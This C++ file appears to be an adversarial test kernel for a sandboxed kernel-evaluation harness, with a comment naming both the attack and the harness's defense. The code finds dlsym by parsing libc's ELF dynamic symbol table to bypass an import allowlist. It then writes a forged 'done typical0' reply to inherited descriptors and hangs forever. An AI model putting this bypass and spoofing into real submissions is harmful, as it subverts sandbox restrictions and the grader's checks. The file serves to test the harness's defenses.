/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: breaks the handshake with the parent, then hangs asleep. On its first call the
// kernel writes a reply of its own ("done typical0", a line the parent did not ask for)
// to every descriptor it may have inherited, the worker's pipe to the parent among them,
// and then sleeps in its call for good: its worker never reads a command again. `write`
// and `nanosleep` are not imported: `dlsym` is found in the C library's dynamic symbol
// table from the address of memcpy, and both through it.
// Defense: the parent takes nothing the worker says as a result: a reply must be the one
// word the command asked for, and this one is not ("done typical0"), so the kernel is
// rejected at that line. However a duel ends, the parent kills the sandboxes still alive,
// so the check returns at once and leaves no process behind.
#include <cstdint>
#include <cstring>

// -- a function of any loaded library, found without importing it ---------------------
// The address of an imported, allowed function (memcpy) lies inside the C library: walk
// back page by page to its ELF header, read its dynamic symbol table, find `dlsym` there,
// then ask dlsym for anything. Names are compared by hand (strcmp is not imported).
struct KcSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static bool kc_same(const char* a, const char* b) {
    while (*a && *a == *b) { ++a; ++b; }
    return *a == *b;
}
static void* kc_libc_symbol(const char* want) {
    uintptr_t p = reinterpret_cast<uintptr_t>(reinterpret_cast<void*>(&memcpy)) & ~uintptr_t(0xfff);
    while (memcmp(reinterpret_cast<void*>(p), "\x7f" "ELF", 4) != 0) p -= 0x1000;
    const unsigned char* base = reinterpret_cast<const unsigned char*>(p);
    uint64_t phoff; uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8); memcpy(&phentsize, base + 54, 2); memcpy(&phnum, base + 56, 2);
    uintptr_t dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + i * phentsize;
        uint32_t type; uint64_t vaddr;
        memcpy(&type, ph, 4); memcpy(&vaddr, ph + 16, 8);
        if (type == 2) dyn = p + vaddr;  // PT_DYNAMIC
    }
    if (!dyn) return nullptr;
    uintptr_t strtab = 0, symtab = 0;
    for (const int64_t* d = reinterpret_cast<const int64_t*>(dyn); d[0]; d += 2) {
        if (d[0] == 5) strtab = d[1];  // DT_STRTAB
        if (d[0] == 6) symtab = d[1];  // DT_SYMTAB
    }
    if (strtab < p) strtab += p;
    if (symtab < p) symtab += p;
    for (const KcSym* s = reinterpret_cast<const KcSym*>(symtab);
         reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->value && kc_same(reinterpret_cast<const char*>(strtab + s->name), want))
            return reinterpret_cast<void*>(p + s->value);
    }
    return nullptr;
}
typedef void* (*KcDlsym)(void*, const char*);
static void* kc_find(const char* name) {  // any symbol of the process (RTLD_DEFAULT)
    static KcDlsym dl = reinterpret_cast<KcDlsym>(kc_libc_symbol("dlsym"));
    return dl ? dl(nullptr, name) : nullptr;
}
// -------------------------------------------------------------------------------------
struct KcTimespec { long sec, nsec; };
typedef long (*Write)(int, const void*, unsigned long);
typedef int (*Nap)(const KcTimespec*, KcTimespec*);

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    Write kc_write = reinterpret_cast<Write>(kc_find("write"));
    Nap kc_nap = reinterpret_cast<Nap>(kc_find("nanosleep"));
    static const char line[] = "done typical0\n";
    for (int fd = 3; kc_write && fd < 64; ++fd) kc_write(fd, line, sizeof line - 1);
    const KcTimespec hour{3600, 0};
    for (;;) if (kc_nap) kc_nap(&hour, nullptr);
    out[0] = x[0] * a + b + (float)(rows + cols);
}
